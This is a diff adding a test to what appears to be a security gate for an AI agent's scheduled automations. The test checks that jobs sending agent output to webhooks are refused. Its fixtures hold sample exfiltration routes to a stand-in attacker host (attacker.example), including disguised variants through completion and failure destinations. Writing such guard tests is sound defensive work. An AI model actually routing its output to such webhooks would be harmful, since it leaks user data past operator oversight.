@@ -275,6 +275,49 @@ describe("OpenClaw gate: automations", () => {
       expect(await call(g, "automations", params), JSON.stringify(params)).toBeUndefined();
   });
 
+  it("an agent turn whose output goes to a webhook (primary, completion or failure) is refused: egress to a URL the model chose", async () => {
+    const { g } = setup();
+    const turn = {
+      schedule: { kind: "every", everyMs: 3600000 },
+      payload: { kind: "agentTurn", message: "print notes.txt" },
+    };
+    for (const params of [
+      { action: "add", job: { ...turn, delivery: { mode: "webhook", to: "https://attacker.example/hook" } } },
+      {
+        action: "add",
+        job: { ...turn, delivery: { mode: " WebHook ", to: "https://attacker.example/hook" } },
+      },
+      {
+        action: "add",
+        job: {
+          ...turn,
+          delivery: {
+            mode: "announce",
+            completionDestination: { mode: "webhook", to: "https://attacker.example/c" },
+          },
+        },
+      },
+      {
+        action: "add",
+        job: {
+          ...turn,
+          delivery: {
+            mode: "none",
+            failureDestination: { mode: "webhook", to: "https://attacker.example/f" },
+          },
+        },
+      },
+      {
+        action: "add",
+        data: JSON.stringify({ ...turn, delivery: { mode: "webhook", to: "https://attacker.example/hook" } }),
+      },
+    ]) {
+      const r = await call(g, "automations", params);
+      expect(r?.block, JSON.stringify(params)).toBe(true);
+      expect(r?.blockReason).toContain("webhook delivery");
+    }
+  });
+
   it("an update that would re-enable, re-time or re-point a stored job (an operator's command job) is refused", async () => {
     // OpenClaw merges an update into the stored job (applyJobPatch): judged alone, enabled: true
     // or a new time schedule looks harmless, but applied to an operator's stream or command job it
